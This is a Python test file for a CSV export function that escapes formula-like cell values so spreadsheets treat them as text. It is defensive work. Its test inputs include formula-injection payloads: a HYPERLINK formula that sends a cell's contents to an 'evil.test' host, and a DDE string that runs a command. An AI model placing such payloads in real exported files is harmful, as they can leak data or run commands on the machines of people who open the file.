"""CSV export: names that a spreadsheet would evaluate become text; numbers and everything else stay unchanged."""

import csv
import io
import re
from pathlib import Path

from dmlcore.storage.csv_text import as_csv
from tests.members import in_one_case

ROOT = Path(__file__).parents[2]


@in_one_case(
    name=[
        '=HYPERLINK("http://evil.test?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "-1\n=2",
        "\uff1d1+1",
        "-",
        "=",
    ]
)
def test_formulas_are_text(name: str) -> None:
    text = as_csv([["class", "x"], [name, 1.5]])
    (_, (read, number)) = csv.reader(io.StringIO(text, newline=""))
    assert read.replace("\n'", "\n").replace("\t'", "\t") == "'" + name.replace("\r", "\n")
    assert number == "1.5"
    assert text.count('"') % 2 == 0


@in_one_case(name=["x;=1+1", 'x;"=1+1', "x|+1", "x\t=1", "x;=1+1;y", "x;; =1", "x\n=1+1", "x;\n@SUM(1)"])
def test_no_other_separator_makes_a_formula(name: str) -> None:
    text = as_csv([["class", "x", "class"], [name, 1.5, name]])
    for separator in ",;|\t":
        for line in text.splitlines():
            cells = line.split(separator)  # a spreadsheet keeps or drops quotes within a cell
            assert not [cell for cell in cells if cell.lstrip('" ').startswith(("=", "+", "-", "@"))]


def test_text_is_quoted_and_numbers_are_not() -> None:
    rows = [["class", "x"], ["Blue Jay", -0.5], ["", "0.50"]]
    assert as_csv(rows) == '"class","x"\n"Blue Jay",-0.5\n"",0.50\n'


def test_numbers_names_and_gaps_stay_as_they_are() -> None:
    row = [-0.5, "-0.5", "+1e-07", "-inf", 3, None, "Blue Jay", "a=b", "", 'O\'Brien, "x"', "a\r=1"]
    shown = ["-0.5", "-0.5", "+1e-07", "-inf", "3", "", "Blue Jay", "a=b", "", 'O\'Brien, "x"', "a\n'=1"]
    assert list(csv.reader(io.StringIO(as_csv([row])))) == [shown]
    assert as_csv([[1], [2]]) == "1\n2\n"


def test_nothing_else_writes_csv() -> None:
    """New exports cannot bypass this writer."""
    writes = re.compile(r"csv\.(writer|DictWriter)|\.to_csv\(")
    found = [
        str(path.relative_to(ROOT))
        for folder in ("dmlcore", "pages")
        for path in (ROOT / folder).rglob("*.py")
        if writes.search(path.read_text())
    ]
    assert found == ["dmlcore/storage/csv_text.py"]
